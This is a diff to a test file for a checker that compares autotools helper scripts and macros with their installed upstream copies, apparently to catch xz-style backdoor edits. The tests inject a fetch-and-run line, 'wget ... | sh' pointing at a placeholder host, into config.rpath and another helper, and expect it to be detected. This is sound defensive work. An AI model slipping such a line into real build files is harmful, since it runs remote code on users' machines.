@@ -78,7 +78,7 @@ describe("normalisation", () => {
     expect(helperStamp("ltmain.sh", "VERSION=2.4.6\n")).toBe("2.4.6");
     expect(helperStamp("config.guess", "timestamp='2023-01-01'\n")).toBe("2023-01-01");
     expect(helperStamp("depcomp", "scriptversion=2018-03-07.03; # UTC\n")).toBe("2018-03-07.03");
-    expect(helperStamp("config.rpath", "#! /bin/sh\n#   Copyright 1996-2020 Free Software Foundation, Inc.\n")).toBe("1996-2020");
+    expect(helperStamp("config.rpath", "#! /bin/sh\n#   Copyright 1996-2020 Free Software Foundation, Inc.\n")).toBeNull();
     expect(helperStamp("README", "scriptversion=1")).toBeNull();
   });
 });
@@ -91,7 +91,9 @@ describe("normalisation", () => {
 const realMacro = ["/usr/share/gnulib/m4/build-to-host.m4", "/usr/share/gettext/m4/build-to-host.m4", "/usr/share/aclocal/host-cpu-c-abi.m4", "/usr/share/aclocal/lib-link.m4"].find(
   (p) => existsSync(p),
 );
-const realHelper = ["/usr/share/gettext/config.rpath", "/usr/share/misc/config.guess", "/usr/share/libtool/build-aux/ltmain.sh"].find((p) => existsSync(p));
+const realHelper = ["/usr/share/misc/config.guess", "/usr/share/libtool/build-aux/ltmain.sh", "/usr/share/automake-1.16/install-sh"].find((p) => existsSync(p));
+/** config.rpath has no version stamp: an edited copy is "another version", whose content the behaviour rules still scan. */
+const realRpath = "/usr/share/gettext/config.rpath";
 
 describe("real upstream files installed on this machine", () => {
   it.skipIf(!realMacro)("matches an installed upstream macro and catches the xz-style edits of it", () => {
@@ -112,6 +114,12 @@ describe("real upstream files installed on this machine", () => {
     expect(checkHelper(realHelper!, text)).toMatchObject({ status: "match" });
     const edited = text.replace(/\n([^#\n][^\n]*)\n/, "\n$1\nwget -q -O- http://example.invalid/x | sh\n");
     expect(checkHelper(realHelper!, edited)).toMatchObject({ status: "body-mismatch" });
+  });
+  it.skipIf(!existsSync(realRpath))("matches an installed config.rpath, which has no version stamp", () => {
+    const text = readFileSync(realRpath, "latin1");
+    expect(checkHelper(realRpath, text)).toMatchObject({ status: "match", stamp: null });
+    const edited = text.replace(/\n([^#\n][^\n]*)\n/, "\n$1\nwget -q -O- http://example.invalid/x | sh\n");
+    expect(checkHelper(realRpath, edited)).toMatchObject({ status: "stamp-unknown", stamp: null, novel: ["wget -q -O- http://example.invalid/x | sh"] });
   });
 });
 
